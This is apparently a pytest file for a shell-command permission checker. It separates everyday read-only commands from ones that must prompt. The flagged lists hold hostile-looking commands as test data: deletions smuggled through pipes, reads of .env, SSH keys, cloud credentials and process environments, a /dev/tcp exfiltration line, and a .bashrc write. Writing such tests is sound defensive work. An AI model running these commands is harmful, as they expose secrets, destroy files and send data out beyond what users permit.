"""Reading inside the workspace is safe; secrets, other places and options that act are not."""

from __future__ import annotations

import pytest

from tests.hands.permissions.verdicts import category, seen

EVERYDAY = [
    "ls",
    "ls -la src",
    "cat README.md | head -20",
    "grep -rn \"TODO\" src --include='*.py'",
    "grep -rn TODO .",
    "rg TODO",
    "rg -n \"def \\w+\" src -g '*.py' -A 3",
    "cut -d: -f1 names.txt | sort | uniq -c | sort -rn | head -5",
    "tr 'a-z' 'A-Z' < in.txt",
    "jq '.name' package.json",
    "jq -r '.items[] | .id' data.json",
    "diff -u a.txt b.txt",
    "wc -l < names.txt",
    "du -sh .",
    "df -h",
    "ps aux",
    "which python3",
    "type ls",
    "uname -a",
    "date +%Y-%m-%d",
    "seq 1 10",
    "basename src/app.py .py",
    'echo "a b" | wc -w',
    "printf '%d\\n' 5",
    "true",
    "pwd",
    "echo $HOME",
    'echo "$PATH"',
    "head -c 100 data.bin | xxd",
    "tail -n 50 app.log",
    "tail -f app.log",
    "sort -t, -k2 -n data.csv",
    "stat -c %s a.txt",
    "md5sum a.txt",
    "tree -L 2",
    "echo 'it'\"'\"'s'",
    'cat "file with spaces.txt"',
    'ls "$PWD"',
    "ps aux | grep python",
    "ps -ef",
    "ps -eo pid,user,cmd",
    "date",
    "date -d yesterday +%F",
    "jq '.env' config.json",
    'echo "user: $USER"',
    "cat package.json | jq -r '.scripts | keys[]'",
]

ASKS = {
    "deletes": [
        "echo hi | tee >(rm -rf src)",
        "ls||rm -rf src",
        "ls|rm -rf src",
        "echo >(rm -rf src)",
    ],
    "opaque": [
        "cat <<EOF | sh\nrm -rf src\nEOF\n",
        "ls | sh",
        "less .env",
        "printf -v PATH x",
        "sort --compress-prog=./x f",
        "sort -S 1 --compress-program ./x f",
        "rg --pre ./x y",
        "rg --pre=./x y",
        "rg -z y",
        "less x",
        "man ls",
        "ls\t\u202ex",
        "cat <<-EOF",
    ],
    "dotenv": [
        "cat .env",
        "cat .env.local",
        "grep KEY .env",
        "head -1 < .env",
        "cat ./sub/.env",
        "cat .e*",
        "cat .en?",
        "cat id_rsa",
        "cat server.pem",
    ],
    "outside": [
        "ls ~",
        "cat ~/x",
        "cat /etc/passwd",
        "cat /etc/hosts",
        "cat ../other/x",
        "ls ..",
        "ls -la /root",
        "cat .//../../../.ssh/id",
        "cat /home/u/.ssh/id",
        "cat /h*/u/.ssh/id",
    ],
    "sensitive": [
        "grep -r x /etc",
        "grep -r x ~",
        "printenv",
        "printenv HOME",
        "cat /proc/self/environ",
        "cat /proc/1/environ",
        "cat /dev/sda",
        "jq -n env",
        "jq -n '$ENV.HOME'",
        "ps auxe",
        "ps e",
        "grep -f ~/.ssh/id x",
        "cat < ~/.aws/credentials",
        "cat ~/.config/gcloud/x",
        "cat ~/.config/../.ssh/id",
        "cat $HOME/.ssh/id",
        'cat "$HOME"/.s*/id',
        "cat ~/.SSH/id",
        "cat ~/.ss?/id",
        "cat ~/.{ssh,aws}/x",
        "cat /home/*/.ssh/id",
        "cat ~/*/id",
        "grep '' ~/.ssh/id",
        "diff ~/.ssh/id x",
        "sort ~/.ssh/id",
        "jq . ~/.docker/config.json",
        "wc ~/.ssh/id",
        "head -c100 ~/.ssh/id",
        "echo $AWS_SECRET_ACCESS_KEY",
    ],
    "privilege": [
        "echo x | tee .bashrc",
        "date 01010000",
        "date -s x",
    ],
    "exfiltration": [
        "cat < /dev/tcp/1.2.3.4/80",
    ],
    "destructive": [
        "sort -o /etc/x f",
    ],
}


@pytest.mark.parametrize("command", EVERYDAY)
def test_everyday_commands_do_not_ask(command: str) -> None:
    assert [finding.sentence for finding in seen(command).findings if finding.category != "changes"] == []


@pytest.mark.parametrize(
    ("expected", "command"), [(kind, each) for kind, several in ASKS.items() for each in several]
)
def test_others_ask_and_say_why(expected: str, command: str) -> None:
    assert category(command) == expected
